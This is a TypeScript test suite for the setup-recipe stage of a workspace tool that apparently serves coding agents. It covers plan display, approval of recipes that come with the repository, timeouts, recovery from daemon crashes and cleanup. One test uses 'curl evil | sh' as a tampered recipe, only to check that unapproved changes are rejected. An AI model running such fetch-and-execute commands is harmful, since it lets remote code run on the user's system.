/** The set-up recipe of a creation: what is approved, what becomes of it, and that it runs at most once. */
import { afterAll, afterEach, describe, expect, test } from "bun:test";
import { ROOT_COMMIT } from "../../src/core/revset.ts";
import type { SetupSettings } from "../../src/lifecycle/creation-deps.ts";
import { openAttention } from "../../src/store/attention.ts";
import { latestOperation } from "../../src/store/lifecycle-ops.ts";
import type { RunningRecipe } from "../fakes/recipes.ts";
import { failureOf } from "../support/failure.ts";
import { removeTempDirs, tempDir } from "../support/temp.ts";
import { AGREED, inputFor, pathsFor, Rig } from "./rig.ts";

const folder = tempDir("setup");
let rig: Rig;
afterEach(() => rig.close());
afterAll(removeTempDirs);

function machine(setup: Partial<SetupSettings> = {}): Rig {
  rig = new Rig(folder);
  rig.setup = { copy: [], run: "npm ci", timeoutS: 60, source: "user", ...setup };
  return rig;
}

/** Creates, and resolves as soon as the recipe's command has begun and goes on. */
async function running(): Promise<{ threadId: string; recipe: RunningRecipe }> {
  rig.recipes.onCommand = () => undefined;
  const { threadId } = await rig.create(inputFor("parser"));
  await rig.until(() => rig.recipes.commands.length === 1, "the command began");
  return { threadId, recipe: rig.recipes.commands[0]! };
}

/** Lets a daemon that only polls look again. */
async function ended(threadId: string): Promise<void> {
  await rig.until(() => {
    if (rig.clock.waiting) rig.clock.advance(250);
    return latestOperation(rig.db, threadId)?.state !== "Running";
  }, "operation ended");
}

function warnings(threadId: string): string[] {
  return openAttention(rig.db, threadId).map((a) => `${a.kind}: ${a.message}`);
}

describe("setup: plan", () => {
  test("plan: files, command and hash → all named; whole command also when it has several lines", async () => {
    machine({ copy: [".env", "missing"], run: "npm ci\nnpm run build\n" });
    rig.files.put("/src/calc/.env", "A=1\n");
    const { text, args } = await rig.creation.plan(inputFor("parser"));
    expect(text).toContain("\nSet-up\n  from       user configuration\n  copies     .env\n");
    expect(text).toContain(
      "  not there  missing\n  runs       npm ci\n             npm run build\n",
    );
    expect(text).toContain(`  sha256     ${args.setup!.sha256}\n`);
    expect(args.setup).toMatchObject({ files: [".env"], run: "npm ci\nnpm run build\n" });
  });

  test("plan: nothing configured → not a word about it", async () => {
    machine({ run: "" });
    const plan = await rig.creation.plan(inputFor("parser"));
    expect([plan.text.includes("Set-up"), plan.args.setup]).toEqual([false, null]);
  });

  test("plan: recipe changed after it was confirmed → plan-changed, nothing made", async () => {
    machine({ source: "repo-shared" });
    const { digest } = await rig.creation.plan(inputFor("parser"));
    rig.setup = { ...rig.setup, run: "curl evil | sh" };
    const failure = await failureOf(rig.creation.create({ ...inputFor("parser"), digest }, AGREED));
    expect(failure).toMatchObject({ code: "plan-changed" });
    expect([rig.jj.made, rig.recipes.commands]).toEqual([[], []]);
  });

  test("plan: recipe that comes with the repository → new, then the same, then changed; another layer says nothing", async () => {
    machine({ source: "repo-shared" });
    const news = async (): Promise<string> => {
      const { text } = await rig.creation.plan(inputFor("next"));
      return (
        /asked about this recipe for the first|same as last agreed|CHANGED/.exec(text)?.[0] ?? ""
      );
    };
    expect(await news()).toBe("asked about this recipe for the first");
    await rig.made(inputFor("parser"));
    expect(await news()).toBe("same as last agreed");
    rig.setup = { ...rig.setup, run: "npm install" };
    expect(await news()).toBe("CHANGED");
    rig.setup = { ...rig.setup, source: "user" };
    expect(await news()).toBe("");
  });
});

describe("setup: run", () => {
  test("setup: succeeds → once, in the workspace, with the agent's environment and its marks; before any session", async () => {
    machine({ copy: [".env"] });
    rig.files.put("/src/calc/.env", "A=1\n");
    let sessions = -1;
    rig.recipes.onCommand = (recipe) => {
      sessions = rig.tmux.sessions.length;
      recipe.end(0);
    };
    const thread = await rig.made(inputFor("parser", { env: { PATH: "/bin", CLAUDECODE: "1" } }));
    expect([thread.lifecycle, sessions, warnings(thread.threadId)]).toEqual(["Active", 0, []]);
    const [recipe, ...more] = rig.recipes.commands;
    expect([recipe!.command, recipe!.cwd, more]).toEqual(["npm ci", "/src/calc-kiki-parser", []]);
    expect(recipe!.env).toEqual({
      PATH: "/bin",
      KIKI_STATE_DIR: "/state",
      KIKI_REPO_ID: rig.deps(rig.db).repoId,
      KIKI_THREAD_ID: thread.threadId,
      KIKI_REPO_ROOT: "/src/calc",
      KIKI_SETUP: expect.stringMatching(/^[0-9a-f-]{36}$/),
    });
    expect(rig.files.get("/src/calc-kiki-parser/.env")).toBe("A=1\n");
  });

  test("setup: fails → Active all the same; one soft warning with the last output and the log", async () => {
    machine();
    rig.recipes.onCommand = (recipe) => {
      rig.recipes.note(pathsFor(recipe.env["KIKI_THREAD_ID"]!).setupLog, ["no network"]);
      recipe.end(7);
    };
    const thread = await rig.made(inputFor("parser"));
    expect(thread.lifecycle).toBe("Active");
    const { setupLog } = pathsFor(thread.threadId);
    expect(openAttention(rig.db, thread.threadId)).toMatchObject([
      {
        kind: "setup-failed",
        loud: false,
        message: `"parser": the set-up recipe failed (exit code 7): no network — log: ${setupLog}`,
      },
    ]);
    expect(rig.files.get(setupLog)).toContain("kiki: runs npm ci\nno network\n");
  });

  test("setup: longer than its limit → ended with all of its session, warning, Active", async () => {
    machine({ timeoutS: 60 });
    const { threadId, recipe } = await running();
    recipe.spawn(false);
    expect(rig.recipes.alive).toHaveLength(2);
    rig.clock.advance(60_000);
    await rig.ended(threadId);
    expect([rig.thread(threadId).lifecycle, rig.recipes.alive]).toEqual(["Active", []]);
    expect(warnings(threadId)[0]).toContain("the set-up recipe was ended after 60 s");
  });

  test("setup: leaves a child in its session → ended and logged; one that left the session → stays", async () => {
    machine();
    const { threadId, recipe } = await running();
    const child = recipe.spawn(false);
    const server = recipe.spawn(true);
    recipe.end(0);
    await rig.ended(threadId);
    expect(rig.recipes.alive).toEqual([server]);
    expect(rig.files.get(pathsFor(threadId).setupLog)).toContain(`process ${child.pid}`);
    expect(warnings(threadId)).toEqual([]);
  });
});

describe("setup: daemon dies while it runs", () => {
  test("setup: still running after the restart → waited for, not run again", async () => {
    machine();
    const { threadId, recipe } = await running();
    rig.kill();
    rig.boot();
    await rig.until(() => rig.clock.waiting, "the new daemon waits");
    expect(rig.thread(threadId).lifecycle).toBe("Creating");
    recipe.end(0);
    await ended(threadId);
    expect([rig.thread(threadId).lifecycle, rig.recipes.commands.length]).toEqual(["Active", 1]);
    expect(warnings(threadId)).toEqual([]);
  });

  test("setup: ended while no daemon was there → its status counts", async () => {
    machine();
    const { threadId, recipe } = await running();
    rig.kill();
    recipe.end(3);
    rig.boot();
    await ended(threadId);
    expect(rig.recipes.commands).toHaveLength(1);
    expect(warnings(threadId)[0]).toContain("failed (exit code 3)");
  });

  test("setup: killed while no daemon was there → outcome unknown, said so, not run again; what is left is ended", async () => {
    machine();
    const { threadId, recipe } = await running();
    recipe.spawn(false);
    rig.kill();
    recipe.kill();
    rig.boot();
    await ended(threadId);
    expect([rig.thread(threadId).lifecycle, rig.recipes.commands.length]).toEqual(["Active", 1]);
    expect(rig.recipes.alive).toEqual([]);
    expect(warnings(threadId)[0]).toContain("its outcome is unknown; it was not run again");
  });

  test("setup: daemon dies right after the start → found by its mark, one command in the end", async () => {
    machine();
    rig.recipes.onCommand = () => undefined;
    rig.recipes.onStart = () => {
      rig.recipes.onStart = () => undefined;
      rig.kill();
      throw new Error("killed");
    };
    const { threadId } = await rig.create(inputFor("parser"));
    await rig.until(() => !rig.alive, "daemon died");
    rig.boot();
    await rig.until(() => rig.clock.waiting, "the new daemon waits");
    rig.recipes.commands[0]!.end(0);
    await ended(threadId);
    expect([rig.thread(threadId).lifecycle, rig.recipes.commands.length]).toEqual(["Active", 1]);
  });

  test("setup: limit passes after a restart → ended all the same", async () => {
    machine({ timeoutS: 60 });
    const { threadId } = await running();
    rig.clock.advance(50_000);
    rig.kill();
    rig.boot();
    await ended(threadId);
    expect([rig.thread(threadId).lifecycle, rig.recipes.alive]).toEqual(["Active", []]);
    expect(warnings(threadId)[0]).toContain("was ended after 60 s");
  });
});

describe("setup: creation fails later", () => {
  test("setup: undone → every process of it ended, also an escaped one; copies gone, folder gone, log kept", async () => {
    machine({ copy: [".env"] });
    rig.files.put("/src/calc/.env", "A=1\n");
    rig.agent = "exit-1";
    rig.recipes.onCommand = (recipe) => {
      recipe.spawn(true);
      recipe.end(0);
    };
    const thread = await rig.made(inputFor("parser"));
    expect(thread.lifecycle).toBe("CreateFailed");
    expect(rig.recipes.alive).toEqual([]);
    expect(rig.files.kindNow("/src/calc-kiki-parser")).toBe("absent");
    expect(rig.files.below(pathsFor(thread.threadId).setup)).toEqual([
      pathsFor(thread.threadId).setupLog,
    ]);
  });

  test("setup: a copy was edited, a file was made → both stay with the folder", async () => {
    machine({ copy: [".env"] });
    rig.files.put("/src/calc/.env", "A=1\n");
    rig.agent = "exit-1";
    rig.recipes.onCommand = (recipe) => {
      rig.files.put(`${recipe.cwd}/.env`, "A=2\n");
      rig.files.put(`${recipe.cwd}/dist/out`, "x");
      recipe.end(0);
    };
    const thread = await rig.made(inputFor("parser"));
    expect(thread.lifecycle).toBe("CreateFailed");
    expect(rig.files.get("/src/calc-kiki-parser/.env")).toBe("A=2\n");
    expect(rig.files.get("/src/calc-kiki-parser/dist/out")).toBe("x");
    expect(warnings(thread.threadId).some((w) => w.startsWith("folder-kept"))).toBe(true);
  });

  test("setup: a file of the commit is named as well → never taken back, so the folder goes", async () => {
    machine({ copy: [".env", "shared.txt"] });
    const base = rig.jj.personCommit(ROOT_COMMIT, "base", { "shared.txt": "same\n" });
    for (const file of [".env", "shared.txt"]) rig.files.put(`/src/calc/${file}`, "same\n");
    rig.agent = "exit-1";
    const thread = await rig.made(inputFor("parser", { base }));
    expect(thread.lifecycle).toBe("CreateFailed");
    expect(rig.files.get(pathsFor(thread.threadId).setupLog)).not.toContain("copied shared.txt");
    expect(rig.files.below("/src/calc-kiki-parser")).toEqual([]);
    expect(warnings(thread.threadId).filter((w) => w.startsWith("folder-kept"))).toEqual([]);
  });
});
